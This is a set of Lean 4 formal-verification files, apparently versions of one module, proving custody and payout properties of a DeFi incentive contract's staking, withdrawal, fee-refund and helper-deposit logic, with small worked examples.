/-- **helper, assets named in the wrong kind**: a helper deposit whose assets are named as the token that
    spells `uwhale` or the denom that spells the cw20's address is refused in every state, whatever is
    attached (the helper's allowance query on a token that does not exist fails; the pair refuses assets that
    are not its own): no position, nothing moves. -/
theorem helper_wrong_kind_refused {c : Cfg} {s s' : St} {e : Env} {x0 x1 a0 a1 dur : Nat} :
    step c s e (.helperDepositAs x0 x1 a0 a1 dur) ≠ .ok s' :=
  fun h => step_helperDepositAs h

/-- **withdraw_exact**: a withdrawal (no funds attached) pays the sender exactly the sum of the sender's
    closed positions, out of the contract's LP balance; afterwards the sender has no closed position;
    nobody else's closed or open positions change and nobody else's LP balance moves. -/
theorem withdraw_exact {c : Cfg} {s s' : St} {e : Env} (hoff : e.offers = []) (hne : e.sender ≠ INC)
    (h : step c s e .withdraw = .ok s') :
    balOf s' e.sender 0 = balOf s e.sender 0 + closedSum (closedOf s e.sender)
    ∧ balOf s' INC 0 + closedSum (closedOf s e.sender) = balOf s INC 0
    ∧ closedOf s' e.sender = []
    ∧ (∀ v, v ≠ e.sender → closedOf s' v = closedOf s v)
    ∧ (∀ v, openOf s' v = openOf s v)
    ∧ (∀ v, v ≠ e.sender → v ≠ INC → balOf s' v 0 = balOf s v 0) :=
  step_withdraw hoff hne h

/-- **position_only_on_receipt** (open): a position is recorded with exactly the stated amount, for
    the receiver (default: the sender), only against exactly that amount of LP — attached as the single
    coin of the call (native LP) or pulled from the *sender* by the `TransferFrom` the handler emits
    (cw20 LP); `step` fails as a whole when that transfer fails. Nobody else's positions change. -/
theorem position_only_on_receipt {c : Cfg} {s s' : St} {e : Env} {amount dur : Nat} {recv : Option Addr}
    {msgs : List Msg} (h : openPosition c s e amount dur recv = .ok (s', msgs)) :
    amount ≠ 0
    ∧ ((c.native 0 = true ∧ fundsOf c e.offers = [(0, amount)] ∧ msgs = [])
        ∨ (c.native 0 = false ∧ msgs = [.pull e.sender INC 0 amount]))
    ∧ openOf s' (recv.getD e.sender) = openOf s (recv.getD e.sender) ++ [{ dur := dur, amt := amount }]
    ∧ (∀ v, v ≠ recv.getD e.sender → openOf s' v = openOf s v) :=
  openPosition_receipt h

/-- the LP-funds check shared by `open_position` and `expand_position` (also used by the helper path,
    where the helper is the sender): zero amounts are rejected; native LP must be the only coin attached
    and equal the stated amount; cw20 LP needs an allowance of at least the amount and yields exactly one
    `TransferFrom` of the stated amount from the sender to the contract. -/
theorem lp_funds_validated {c : Cfg} {e : Env} {amount : Nat} {m : List Msg} (h : validateFunds c e amount = .ok m) :
    amount ≠ 0 ∧ ((c.native 0 = true ∧ fundsOf c e.offers = [(0, amount)] ∧ m = [])
      ∨ (c.native 0 = false ∧ amount ≤ aget (allowOf c e.offers) 0 ∧ m = [.pull e.sender INC 0 amount])) :=
  validateFunds_spec h

/-- **withdraw_exact** at the end of ANY history: whatever happened before, a withdrawal pays the sender
    exactly the sum of the sender's closed positions out of the contract's LP balance. -/
theorem withdraw_exact_reach (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (e : Env) (s' : St)
    (hoff : e.offers = []) (hne : e.sender ≠ INC)
    (h : step c (reach c (init e0 bal) ops) e .withdraw = .ok s') :
    balOf s' e.sender 0 = balOf (reach c (init e0 bal) ops) e.sender 0
        + closedSum (closedOf (reach c (init e0 bal) ops) e.sender)
    ∧ balOf s' INC 0 + closedSum (closedOf (reach c (init e0 bal) ops) e.sender)
        = balOf (reach c (init e0 bal) ops) INC 0
    ∧ closedOf s' e.sender = [] :=
  let r := step_withdraw hoff hne h
  ⟨r.1, r.2.1, r.2.2.1⟩

/-- **position_only_on_receipt** as a whole transaction in ANY state (hence at the end of any history): an
    accepted `open_position` / `expand_position` raises the staked total by exactly the stated amount and
    the contract's LP balance by exactly the same amount (attached or pulled from the sender; nothing
    leaves the contract); no other handler raises the staked total (`close_position` moves a position
    from open to closed unchanged, `withdraw` lowers it by what it pays). -/
theorem position_only_on_receipt_step {c : Cfg} {s s' : St} {e : Env} {amount dur : Nat} {recv : Option Addr}
    (hs : e.sender ≠ INC) (h : step c s e (.openPos amount dur recv) = .ok s') :
    staked s' = staked s + amount ∧ balOf s' INC 0 = balOf s INC 0 + amount ∧ s'.flows = s.flows := by
  unfold step at h
  simp only at h
  obtain ⟨b, hb, h⟩ := bind_eq_ok h
  obtain ⟨⟨s1, msgs⟩, h1, h⟩ := bind_eq_ok h
  obtain ⟨b1, hb1, h⟩ := bind_eq_ok h
  injection h with h
  subst h
  have h1' : openPosition c ({ s with bal := b } : St) e amount dur recv = .ok (s1, msgs) := h1
  obtain ⟨d1, _, d3, d4, d5⟩ := openPosition_delta h1'
  obtain ⟨v1, v2⟩ := validateFunds_ledger hs d5
  have t1 := attachFunds_eff (x := e.sender) (y := INC) INC 0 _ _ _ hb
  rw [if_neg (fun hh => hs hh.1), if_pos ⟨rfl, hs⟩] at t1
  have t2 := applyMsgs_eff INC 0 _ _ _ _ hb1
  rw [v1 0, d3] at t2
  simp only at t2
  refine ⟨d4, ?_, d1⟩
  unfold balOf
  simp only
  omega

/-- non-vacuity: alice opens 1000 for bob (cw20 LP), bob closes and withdraws: bob — not alice — gets the
    1000 back, the contract ends with 0 -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((1, 0), 5000), ((2, 0), 7)]
    let s := reach c s0 [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 (some 2)),
                         ({ epoch := 1, time := 200, sender := 2, offers := [] }, .closePos 86400),
                         ({ epoch := 2, time := 300, sender := 2, offers := [] }, .withdraw)]
    (balOf s 1 0, balOf s 2 0, balOf s INC 0, openOf s 2, closedOf s 2) = (4000, 1007, 0, [], []) := by decide

/-- non-vacuity of the hypotheses of `custody_eq` (native LP = fee denom, an LP-asset flow, a position,
    a claim): senders, coins, epochs and `NoStrayLp` hold and the equation reads 1 000 + 500 000 = 501 000 -/
example :
    let c : Cfg := { lpNative := true, feeAsset := 0, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let ops : List (Env × Op) :=
      [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
       ({ epoch := 1, time := 100, sender := 4, offers := [(0, 501000)] }, .openFlow 0 501000 none (some 10)),
       ({ epoch := 2, time := 200, sender := 1, offers := [] }, .snapshot)]
    let s := reach c (init 1 [((1, 0), 5000), ((4, 0), 600000)]) ops
    (∀ p ∈ ops, p.1.sender ≠ INC) ∧ (∀ p ∈ ops, strayOf c p.1 p.2 = 0)
    ∧ (balOf s INC 0, staked s, flowFunds s 0, balOf s COLLECTOR 0) = (501000, 1000, 500000, 1000) := by decide

/-- non-vacuity of `overpaid_fee_refunded` and of `custody_eq` with an over-paid fee (the repaired finding
    C11-lp-denom-fee-overpaid-kept): native LP = fee denom, fee 1 000; dave opens a flow of 5 000 in the cw20
    asset 3 with 1 700 LP attached. The operation is accepted, `strayOf` is 0, dave's LP falls by exactly the
    fee (10 000 → 9 000: the 700 came back), the collector gets 1 000, and the contract's LP balance is still
    exactly the staked 1 000 (it holds the 5 000 of asset 3 for the flow). -/
example :
    let c : Cfg := { lpNative := true, feeAsset := 0, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let ops : List (Env × Op) :=
      [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
       ({ epoch := 1, time := 100, sender := 4, offers := [(0, 1700), (3, 5000)] }, .openFlow 3 5000 none (some 10))]
    let s0 := init 1 [((1, 0), 5000), ((4, 0), 10000), ((4, 3), 8000)]
    let s := reach c s0 ops
    (∀ p ∈ ops, strayOf c p.1 p.2 = 0) ∧ s.flows.length = 1
    ∧ (balOf s 4 0, balOf s COLLECTOR 0, balOf s INC 0, staked s, flowFunds s 0, balOf s INC 3, balOf s 4 3)
        = (9000, 1000, 1000, 1000, 0, 5000, 3000) := by decide

end WW.C11
