/-
  C11 — Incentive contract: staked LP is held one-for-one and returned to its owner.
  Property theorems only (helpers in WW/Proofs/{Incentive,Flows}.lean). The model `WW.Inc.step` is the
  replica of the incentive contract + frontend helper path (engine `incentive`), following the repaired
  code (expand_flow dispatches its TransferFrom; flow reset keeps the original amount).
-/
import WW.Proofs.Snapshot
namespace WW.C11
open WW WW.Gen WW.Inc

/-- sum of the open and closed position amounts of the listed addresses -/
def positionsOf (s : St) (us : List Addr) : Nat :=
  (us.map (fun u => openSum (openOf s u) + closedSum (closedOf s u))).sum

/-- unclaimed funds of the flows denominated in asset `a` -/
def flowFunds (s : St) (a : Nat) : Nat :=
  ((s.flows.filter (fun f => f.asset = a)).map (fun f => f.funded - f.claimed)).sum

/-- The custody equation, full strength (the statement of the property): over every history from a
    fresh contract, with `us` listing every address that ever held a position, and provided nobody
    attaches LP-denom funds the contract did not ask for (`NoStrayLp`: the only such path in the handlers
    is an over-paid flow fee in the LP denom with a cw20 flow asset, which `open_flow` keeps).
    NOT proved as a whole-history theorem (missing part: the induction through `claim` — that the
    transfer messages of `claimFlows` add up to the increase of the LP-asset flows' `claimed` — and
    through `open_flow` / `expand_flow` on LP-asset flows). It is evaluated after every operation of every
    generated history on the real contracts by the monitor `C11:custody_eq`. The per-operation theorems
    below are the position half of that induction. -/
def CustodyEq (c : Cfg) (s : St) (us : List Addr) : Prop :=
  balOf s INC 0 = positionsOf s us + flowFunds s 0

/-- **withdraw_exact**: a withdrawal (no funds attached) pays the sender exactly the sum of the sender's
    closed positions, out of the contract's LP balance; afterwards the sender has no closed position;
    nobody else's closed or open positions change and nobody else's LP balance moves. -/
theorem withdraw_exact {c : Cfg} {s s' : St} {e : Env} (hoff : e.offers = []) (hne : e.sender ≠ INC)
    (h : step c s e .withdraw = .ok s') :
    balOf s' e.sender 0 = balOf s e.sender 0 + closedSum (closedOf s e.sender)
    ∧ balOf s' INC 0 + closedSum (closedOf s e.sender) = balOf s INC 0
    ∧ closedOf s' e.sender = []
    ∧ (∀ v, v ≠ e.sender → closedOf s' v = closedOf s v)
    ∧ (∀ v, openOf s' v = openOf s v)
    ∧ (∀ v, v ≠ e.sender → v ≠ INC → balOf s' v 0 = balOf s v 0) :=
  step_withdraw hoff hne h

/-- **position_only_on_receipt** (open): a position is recorded with exactly the stated amount, for
    the receiver (default: the sender), only against exactly that amount of LP — attached as the single
    coin of the call (native LP) or pulled from the *sender* by the `TransferFrom` the handler emits
    (cw20 LP); `step` fails as a whole when that transfer fails. Nobody else's positions change. -/
theorem position_only_on_receipt {c : Cfg} {s s' : St} {e : Env} {amount dur : Nat} {recv : Option Addr}
    {msgs : List Msg} (h : openPosition c s e amount dur recv = .ok (s', msgs)) :
    amount ≠ 0
    ∧ ((c.native 0 = true ∧ fundsOf c e.offers = [(0, amount)] ∧ msgs = [])
        ∨ (c.native 0 = false ∧ msgs = [.pull e.sender INC 0 amount]))
    ∧ openOf s' (recv.getD e.sender) = openOf s (recv.getD e.sender) ++ [{ dur := dur, amt := amount }]
    ∧ (∀ v, v ≠ recv.getD e.sender → openOf s' v = openOf s v) :=
  openPosition_receipt h

/-- the LP-funds check shared by `open_position` and `expand_position` (also used by the helper path,
    where the helper is the sender): zero amounts are rejected; native LP must be the only coin attached
    and equal the stated amount; cw20 LP needs an allowance of at least the amount and yields exactly one
    `TransferFrom` of the stated amount from the sender to the contract. -/
theorem lp_funds_validated {c : Cfg} {e : Env} {amount : Nat} {m : List Msg} (h : validateFunds c e amount = .ok m) :
    amount ≠ 0 ∧ ((c.native 0 = true ∧ fundsOf c e.offers = [(0, amount)] ∧ m = [])
      ∨ (c.native 0 = false ∧ amount ≤ aget (allowOf c e.offers) 0 ∧ m = [.pull e.sender INC 0 amount])) :=
  validateFunds_spec h

/-- non-vacuity: alice opens 1000 for bob (cw20 LP), bob closes and withdraws: bob — not alice — gets the
    1000 back, the contract ends with 0 -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((1, 0), 5000), ((2, 0), 7)]
    let s := reach c s0 [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 (some 2)),
                         ({ epoch := 1, time := 200, sender := 2, offers := [] }, .closePos 86400),
                         ({ epoch := 2, time := 300, sender := 2, offers := [] }, .withdraw)]
    (balOf s 1 0, balOf s 2 0, balOf s INC 0, openOf s 2, closedOf s 2) = (4000, 1007, 0, [], []) := by decide

end WW.C11
