/-
  C11 — Incentive contract: staked LP is held one-for-one and returned to its owner.
  Property theorems only (helpers in WW/Proofs/{Incentive,Flows,Ledger,FlowSums,ClaimLedger,PosDelta,HistKeys,
  FlowDelta,FlowBacked,Backed,Custody,CustodyHist,FlowExact,HelperKeeps,PosKeys,AssetKinds,HelperReentry}.lean). The model
  `WW.Inc.step` is the replica of the incentive contract + frontend helper path (engine `incentive`), following
  the repaired code (expand_flow dispatches its TransferFrom; flow reset keeps the original amount);
  `WW.Inc.stepTx` (`WW/Model/HelperReentry.lean`) adds the transactions in which the hostile cw20 asset of the
  helper's pair sends a message of its own from inside a transfer (last section of this file).
-/
import WW.Proofs.PosKeys
import WW.Proofs.AssetKinds
import WW.Proofs.HelperReentry
namespace WW.C11
open WW WW.Gen WW.Inc

/-- sum of the open and closed position amounts of the listed addresses -/
def positionsOf (s : St) (us : List Addr) : Nat :=
  (us.map (fun u => openSum (openOf s u) + closedSum (closedOf s u))).sum

/-- unclaimed funds of the flows denominated in asset `a` -/
def flowFunds (s : St) (a : Nat) : Nat :=
  ((s.flows.filter (fun f => f.asset = a)).map (fun f => f.funded - f.claimed)).sum

/-- The custody equation (the statement of the property): the contract's LP balance is exactly everything
    staked (`staked s` = the open and closed positions of ALL addresses, summed over the two storage maps)
    plus the unclaimed funds of the flows denominated in the LP asset, plus `kept` — LP-denom coins that
    were attached to calls that take no LP (zero unless somebody donates; see `strayOf`). -/
def CustodyEq (s : St) (kept : Nat) : Prop :=
  balOf s INC 0 = staked s + flowFunds s 0 + kept

theorem flowFunds_eq (s : St) (a : Nat) : flowFunds s a = ffSum a s.flows := (ffSum_eq a s.flows).symm

/-- **custody_eq**, counted form, over ALL histories: for every sequence of operations applied to a freshly
    instantiated contract — senders other than the contract itself (`SendersOk`), attached coins with
    distinct denoms (`OffersOk`), epochs that never go back (`EpochsFrom`), otherwise arbitrary (any
    receivers, amounts, durations, failed operations, helper deposits, flows in the LP asset with
    expansions, resets, claims and closes) — the contract's LP balance equals
    what it held at instantiation + everything staked + the unclaimed funds of the LP-asset flows
    + `keptLp`, the LP-denom funds attached to successful calls that did not ask for them. `keptLp` adds
    `strayOf` per successful operation, and `strayOf` counts donations only: native LP coins attached to
    `claim` / `withdraw` / `close_position` / `snapshot` / `close_flow`, to an `expand_flow` in another
    asset, or to an `open_flow` whose flow asset and fee asset are both not the LP. An `open_flow` whose
    fee is charged in the LP denom contributes nothing whatever is attached: an over-paid fee is refunded
    for every kind of flow asset (`overpaid_fee_refunded`). -/
theorem custody_eq_counted (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (hs : SendersOk ops) (ho : OffersOk ops) (he : EpochsFrom e0 ops) :
    CustodyEq (reach c (init e0 bal) ops) (balOf (init e0 bal) INC 0 + keptLp c (init e0 bal) ops) := by
  obtain ⟨ep', h⟩ := reach_custody (c := c) ops (init e0 bal) e0 _ (init_CInv e0 bal) hs ho he
  have hb := h.bal
  unfold owed at hb
  simp only [if_true] at hb
  unfold CustodyEq
  rw [flowFunds_eq]
  omega

theorem sum_map_add (us : List Addr) (f g : Addr → Nat) :
    (us.map (fun u => f u + g u)).sum = (us.map f).sum + (us.map g).sum := by
  induction us with
  | nil => rfl
  | cons u t ih => simp only [List.map_cons, List.sum_cons, ih]; omega

/-- `staked` is the sum of the per-address position amounts: over ALL histories, for any duplicate-free
    list `us` of addresses containing every address that has an entry in the position maps (every address
    that ever held a position), `Σ_{u ∈ us} (Σ open(u) + Σ closed(u)) = staked`. So the custody theorems
    read literally "LP balance = Σ open + Σ closed + Σ unclaimed LP-flow funds". -/
theorem staked_eq_positionsOf (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (us : List Addr)
    (hus : us.Nodup)
    (hcov : ∀ u, (u ∈ keysOf (reach c (init e0 bal) ops).openPos
                  ∨ u ∈ keysOf (reach c (init e0 bal) ops).closedPos) → u ∈ us) :
    positionsOf (reach c (init e0 bal) ops) us = staked (reach c (init e0 bal) ops) := by
  have hP := reach_PKeys (c := c) (init_PKeys e0 bal) ops
  unfold positionsOf staked
  rw [sum_map_add]
  have h1 := sum_over_addresses openSum (d := []) rfl _ us hP.openK hus (fun k hk => hcov k (Or.inl hk))
  have h2 := sum_over_addresses closedSum (d := []) rfl _ us hP.closedK hus (fun k hk => hcov k (Or.inr hk))
  unfold openOf closedOf
  rw [h1, h2]

/-- no operation of the history carries LP-denom coins into a handler that takes no LP: no native LP coin is
    attached to `claim`, `withdraw`, `close_position`, `snapshot`, `close_flow`, to an `expand_flow` of a flow
    in another asset, or to an `open_flow` with neither its flow asset nor its fee in the LP. It excludes
    nothing else — in particular not an over-paid `open_flow` fee in the LP denom, for any flow asset
    (`noStrayLp_openFlow_fee`). -/
def NoStrayLp (c : Cfg) (ops : List (Env × Op)) : Prop := ∀ p ∈ ops, strayOf c p.1 p.2 = 0

theorem keptLp_zero {c : Cfg} : ∀ (ops : List (Env × Op)) (s : St), NoStrayLp c ops → keptLp c s ops = 0 := by
  intro ops
  induction ops with
  | nil => intro s _; rfl
  | cons p t ih =>
    intro s h
    unfold keptLp
    rw [ih _ (fun q hq => h q (List.mem_cons_of_mem _ hq)), h p List.mem_cons_self]
    split <;> rfl

/-- an `open_flow` under a fee charged in the LP asset never counts as stray LP, whatever is attached to it
    (over-paid fee included) and whatever the flow asset is -/
theorem noStrayLp_openFlow_fee (c : Cfg) (e : Env) (a amt : Nat) (st en : Option Nat) (hfee : c.feeAsset = 0) :
    strayOf c e (.openFlow a amt st en) = 0 := by
  simp only [strayOf, if_pos hfee]
  split <;> rfl

/-- **custody_eq**, over ALL histories without donated LP coins (`NoStrayLp`: no native LP coin attached to
    a call that takes no LP; over-paid flow fees are NOT excluded), from a contract that starts with no LP:
    LP balance = Σ open positions + Σ closed positions + Σ unclaimed funds of the LP-asset flows, exactly,
    after every operation. -/
theorem custody_eq (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (hs : SendersOk ops) (ho : OffersOk ops) (he : EpochsFrom e0 ops) (hk : NoStrayLp c ops)
    (h0 : balOf (init e0 bal) INC 0 = 0) :
    CustodyEq (reach c (init e0 bal) ops) 0 := by
  have h := custody_eq_counted c e0 bal ops hs ho he
  rw [keptLp_zero ops _ hk, h0] at h
  exact h

/-- **custody, `≥` half with no assumption on epochs, coins or stray funds**: over ALL histories (senders
    other than the contract itself) the LP balance covers everything staked plus the LP-asset flows. -/
theorem custody_ge (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (hs : SendersOk ops) :
    staked (reach c (init e0 bal) ops) + flowFunds (reach c (init e0 bal) ops) 0
      ≤ balOf (reach c (init e0 bal) ops) INC 0 := by
  have h := (reach_backed (c := c) (init_WInv e0 bal) (init_FInv e0 bal) (init_backed e0 bal) ops hs).2 0
  unfold owed at h
  simp only [if_true] at h
  rw [flowFunds_eq]
  omega

/-- the custody equation as a one-transaction statement from any state satisfying the invariant
    (`CInv s ep K`: weights, flow ids, asset-history keys ≤ `ep + 1`, creators, and the equation with `K`) -/
theorem custody_eq_step {c : Cfg} {s s' : St} {e : Env} {op : Op} {K : Nat} (hI : CInv s e.epoch K)
    (hs : e.sender ≠ INC) (hn : (keysOf e.offers).Nodup) (h : step c s e op = .ok s') :
    balOf s' INC 0 = staked s' + flowFunds s' 0 + (K + strayOf c e op) := by
  have hb := (step_custody hI hs hn h).bal
  unfold owed at hb
  simp only [if_true] at hb
  rw [flowFunds_eq]
  omega

/-- **overpaid_fee_refunded**: under a flow fee charged in a native denom, an accepted `open_flow` — with ANY
    amount of the fee denom attached, for a flow asset of ANY kind (native or cw20) — lowers the sender's
    balance of the fee denom by exactly the fee, plus the flow amount `amt - fee` when the flow is opened in
    the fee denom itself; the collector's balance of it rises by exactly the fee and the contract's by exactly
    that flow amount (by nothing when the flow asset is another one): the contract keeps none of an
    over-payment, every unit beyond fee (+ flow) is back with the sender when the transaction ends.
    Any state, hence after any history. -/
theorem overpaid_fee_refunded {c : Cfg} {s s' : St} {e : Env} {a amt : Nat} {st en : Option Nat}
    (hnf : c.native c.feeAsset = true) (hs : e.sender ≠ INC) (hsc : e.sender ≠ COLLECTOR)
    (hn : (keysOf e.offers).Nodup) (h : step c s e (.openFlow a amt st en) = .ok s') :
    balOf s' e.sender c.feeAsset + c.feeAmt + (if a = c.feeAsset then amt - c.feeAmt else 0)
        = balOf s e.sender c.feeAsset
    ∧ balOf s' INC c.feeAsset = balOf s INC c.feeAsset + (if a = c.feeAsset then amt - c.feeAmt else 0)
    ∧ balOf s' COLLECTOR c.feeAsset = balOf s COLLECTOR c.feeAsset + c.feeAmt :=
  step_openFlow_fee_refund hnf hs hsc hn h

/-- **helper_keeps_nothing**: after a deposit through the frontend helper (any state, any depositor other
    than the helper itself) the helper holds no LP at all — its whole LP balance went into the depositor's
    position — and its balance of every other asset is what it was before (the deposited assets were passed
    on to the pair in full). -/
theorem helper_keeps_nothing {c : Cfg} {s s' : St} {e : Env} {a0 a1 dur : Nat} (hs : e.sender ≠ HELPER)
    (h : step c s e (.helperDeposit a0 a1 dur) = .ok s') :
    balOf s' HELPER 0 = 0 ∧ ∀ a, a ≠ 0 → balOf s' HELPER a = balOf s HELPER a :=
  step_helper_keeps_nothing hs h

/-- … in particular after every successful helper deposit at the end of ANY history -/
theorem helper_keeps_nothing_reach (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (e : Env)
    (a0 a1 dur : Nat) (s' : St) (hs : e.sender ≠ HELPER)
    (h : step c (reach c (init e0 bal) ops) e (.helperDeposit a0 a1 dur) = .ok s') :
    balOf s' HELPER 0 = 0 :=
  (step_helper_keeps_nothing hs h).1

/-- **helper, assets named in the wrong kind**: a helper deposit whose assets are named as the token that
    spells `uwhale` or the denom that spells the cw20's address is refused in every state, whatever is
    attached (the helper's allowance query on a token that does not exist fails; the pair refuses assets that
    are not its own): no position, nothing moves. -/
theorem helper_wrong_kind_refused {c : Cfg} {s s' : St} {e : Env} {x0 x1 a0 a1 dur : Nat} :
    step c s e (.helperDepositAs x0 x1 a0 a1 dur) ≠ .ok s' :=
  fun h => step_helperDepositAs h

/-- **withdraw_exact**: a withdrawal (no funds attached) pays the sender exactly the sum of the sender's
    closed positions, out of the contract's LP balance; afterwards the sender has no closed position;
    nobody else's closed or open positions change and nobody else's LP balance moves. -/
theorem withdraw_exact {c : Cfg} {s s' : St} {e : Env} (hoff : e.offers = []) (hne : e.sender ≠ INC)
    (h : step c s e .withdraw = .ok s') :
    balOf s' e.sender 0 = balOf s e.sender 0 + closedSum (closedOf s e.sender)
    ∧ balOf s' INC 0 + closedSum (closedOf s e.sender) = balOf s INC 0
    ∧ closedOf s' e.sender = []
    ∧ (∀ v, v ≠ e.sender → closedOf s' v = closedOf s v)
    ∧ (∀ v, openOf s' v = openOf s v)
    ∧ (∀ v, v ≠ e.sender → v ≠ INC → balOf s' v 0 = balOf s v 0) :=
  step_withdraw hoff hne h

/-- **position_only_on_receipt** (open): a position is recorded with exactly the stated amount, for
    the receiver (default: the sender), only against exactly that amount of LP — attached as the single
    coin of the call (native LP) or pulled from the *sender* by the `TransferFrom` the handler emits
    (cw20 LP); `step` fails as a whole when that transfer fails. Nobody else's positions change. -/
theorem position_only_on_receipt {c : Cfg} {s s' : St} {e : Env} {amount dur : Nat} {recv : Option Addr}
    {msgs : List Msg} (h : openPosition c s e amount dur recv = .ok (s', msgs)) :
    amount ≠ 0
    ∧ ((c.native 0 = true ∧ fundsOf c e.offers = [(0, amount)] ∧ msgs = [])
        ∨ (c.native 0 = false ∧ msgs = [.pull e.sender INC 0 amount]))
    ∧ openOf s' (recv.getD e.sender) = openOf s (recv.getD e.sender) ++ [{ dur := dur, amt := amount }]
    ∧ (∀ v, v ≠ recv.getD e.sender → openOf s' v = openOf s v) :=
  openPosition_receipt h

/-- the LP-funds check shared by `open_position` and `expand_position` (also used by the helper path,
    where the helper is the sender): zero amounts are rejected; native LP must be the only coin attached
    and equal the stated amount; cw20 LP needs an allowance of at least the amount and yields exactly one
    `TransferFrom` of the stated amount from the sender to the contract. -/
theorem lp_funds_validated {c : Cfg} {e : Env} {amount : Nat} {m : List Msg} (h : validateFunds c e amount = .ok m) :
    amount ≠ 0 ∧ ((c.native 0 = true ∧ fundsOf c e.offers = [(0, amount)] ∧ m = [])
      ∨ (c.native 0 = false ∧ amount ≤ aget (allowOf c e.offers) 0 ∧ m = [.pull e.sender INC 0 amount])) :=
  validateFunds_spec h

/-- **withdraw_exact** at the end of ANY history: whatever happened before, a withdrawal pays the sender
    exactly the sum of the sender's closed positions out of the contract's LP balance. -/
theorem withdraw_exact_reach (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (e : Env) (s' : St)
    (hoff : e.offers = []) (hne : e.sender ≠ INC)
    (h : step c (reach c (init e0 bal) ops) e .withdraw = .ok s') :
    balOf s' e.sender 0 = balOf (reach c (init e0 bal) ops) e.sender 0
        + closedSum (closedOf (reach c (init e0 bal) ops) e.sender)
    ∧ balOf s' INC 0 + closedSum (closedOf (reach c (init e0 bal) ops) e.sender)
        = balOf (reach c (init e0 bal) ops) INC 0
    ∧ closedOf s' e.sender = [] :=
  let r := step_withdraw hoff hne h
  ⟨r.1, r.2.1, r.2.2.1⟩

/-- **position_only_on_receipt** as a whole transaction in ANY state (hence at the end of any history): an
    accepted `open_position` / `expand_position` raises the staked total by exactly the stated amount and
    the contract's LP balance by exactly the same amount (attached or pulled from the sender; nothing
    leaves the contract); no other handler raises the staked total (`close_position` moves a position
    from open to closed unchanged, `withdraw` lowers it by what it pays). -/
theorem position_only_on_receipt_step {c : Cfg} {s s' : St} {e : Env} {amount dur : Nat} {recv : Option Addr}
    (hs : e.sender ≠ INC) (h : step c s e (.openPos amount dur recv) = .ok s') :
    staked s' = staked s + amount ∧ balOf s' INC 0 = balOf s INC 0 + amount ∧ s'.flows = s.flows := by
  unfold step at h
  simp only at h
  obtain ⟨b, hb, h⟩ := bind_eq_ok h
  obtain ⟨⟨s1, msgs⟩, h1, h⟩ := bind_eq_ok h
  obtain ⟨b1, hb1, h⟩ := bind_eq_ok h
  injection h with h
  subst h
  have h1' : openPosition c ({ s with bal := b } : St) e amount dur recv = .ok (s1, msgs) := h1
  obtain ⟨d1, _, d3, d4, d5⟩ := openPosition_delta h1'
  obtain ⟨v1, v2⟩ := validateFunds_ledger hs d5
  have t1 := attachFunds_eff (x := e.sender) (y := INC) INC 0 _ _ _ hb
  rw [if_neg (fun hh => hs hh.1), if_pos ⟨rfl, hs⟩] at t1
  have t2 := applyMsgs_eff INC 0 _ _ _ _ hb1
  rw [v1 0, d3] at t2
  simp only at t2
  refine ⟨d4, ?_, d1⟩
  unfold balOf
  simp only
  omega

/-- non-vacuity: alice opens 1000 for bob (cw20 LP), bob closes and withdraws: bob — not alice — gets the
    1000 back, the contract ends with 0 -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((1, 0), 5000), ((2, 0), 7)]
    let s := reach c s0 [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 (some 2)),
                         ({ epoch := 1, time := 200, sender := 2, offers := [] }, .closePos 86400),
                         ({ epoch := 2, time := 300, sender := 2, offers := [] }, .withdraw)]
    (balOf s 1 0, balOf s 2 0, balOf s INC 0, openOf s 2, closedOf s 2) = (4000, 1007, 0, [], []) := by decide

/-- non-vacuity of the hypotheses of `custody_eq` (native LP = fee denom, an LP-asset flow, a position,
    a claim): senders, coins, epochs and `NoStrayLp` hold and the equation reads 1 000 + 500 000 = 501 000 -/
example :
    let c : Cfg := { lpNative := true, feeAsset := 0, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let ops : List (Env × Op) :=
      [({ epoch := 1, time := 100, sender := 1, offers := [(0, 1000)] }, .openPos 1000 86400 none),
       ({ epoch := 1, time := 100, sender := 4, offers := [(0, 501000)] }, .openFlow 0 501000 none (some 10)),
       ({ epoch := 2, time := 200, sender := 1, offers := [] }, .snapshot)]
    let s := reach c (init 1 [((1, 0), 5000), ((4, 0), 600000)]) ops
    (∀ p ∈ ops, p.1.sender ≠ INC) ∧ (∀ p ∈ ops, strayOf c p.1 p.2 = 0)
    ∧ (balOf s INC 0, staked s, flowFunds s 0, balOf s COLLECTOR 0) = (501000, 1000, 500000, 1000) := by decide

/-- non-vacuity of `overpaid_fee_refunded` and of `custody_eq` with an over-paid fee (the repaired finding
    C11-lp-denom-fee-overpaid-kept): native LP = fee denom, fee 1 000; dave opens a flow of 5 000 in the cw20
    asset 3 with 1 700 LP attached. The operation is accepted, `strayOf` is 0, dave's LP falls by exactly the
    fee (10 000 → 9 000: the 700 came back), the collector gets 1 000, and the contract's LP balance is still
    exactly the staked 1 000 (it holds the 5 000 of asset 3 for the flow). -/
example :
